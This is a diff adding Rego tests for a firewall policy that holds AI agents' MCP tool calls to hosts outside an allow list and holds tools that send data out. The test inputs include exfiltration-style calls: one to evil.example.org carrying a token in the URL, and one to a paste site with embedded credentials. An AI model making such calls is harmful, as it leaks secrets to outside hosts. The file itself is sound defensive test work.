@@ -1,0 +1,49 @@
+# Tests for egress.rego (allowed_hosts from data.json: localhost, 127.0.0.1,
+# .internal.example).
+package mcp.firewall_test
+
+import data.mcp.firewall
+
+tool_call(name, args) := {
+	"method": "tools/call",
+	"server": "net",
+	"tool": {"name": name, "annotations": {"readOnlyHint": true}},
+	"arguments": args,
+}
+
+test_external_url_held_and_reason_names_only_the_host if {
+	call := tool_call("fetch_page", {"url": "https://evil.example.org/x?token=hunter2"})
+	firewall.approve == {"tool fetch_page sends a request to evil.example.org, which is not in data.mcp_firewall.egress.allowed_hosts"} with input as call
+}
+
+test_allowed_hosts_pass if {
+	count(firewall.approve) == 0 with input as tool_call("fetch_page", {"url": "http://localhost:8080/health"})
+	count(firewall.approve) == 0 with input as tool_call("fetch_page", {"url": "https://api.internal.example/v1"})
+	firewall.allow with input as tool_call("fetch_page", {"url": "http://127.0.0.1/"})
+}
+
+test_nested_url_and_user_info if {
+	call := tool_call("summarize", {"opts": {"sources": ["see https://user:pw@Paste.Example.COM:443/abc"]}})
+	reasons := firewall.approve with input as call
+	reasons == {"tool summarize sends a request to paste.example.com, which is not in data.mcp_firewall.egress.allowed_hosts"}
+}
+
+test_senders_held if {
+	every name in ["upload_file", "send_email", "post_webhook", "slack_send_message"] {
+		count(firewall.approve) == 1 with input as tool_call(name, {"text": "hi"})
+	}
+}
+
+test_http_write_methods_held if {
+	call := tool_call("http_request", {"url": "http://localhost/api", "method": "post"})
+	firewall.approve == {"tool http_request makes an HTTP POST request"} with input as call
+	count(firewall.approve) == 0 with input as tool_call("http_request", {"url": "http://localhost/api", "method": "GET"})
+}
+
+test_no_allowed_hosts_means_every_url_held if {
+	count(firewall.approve) == 1 with input as tool_call("fetch", {"url": "http://localhost/"}) with data.mcp_firewall.egress as {}
+}
+
+test_file_uris_are_not_egress if {
+	count(firewall.approve) == 0 with input as tool_call("read_file", {"path": "file:///srv/a.txt"})
+}
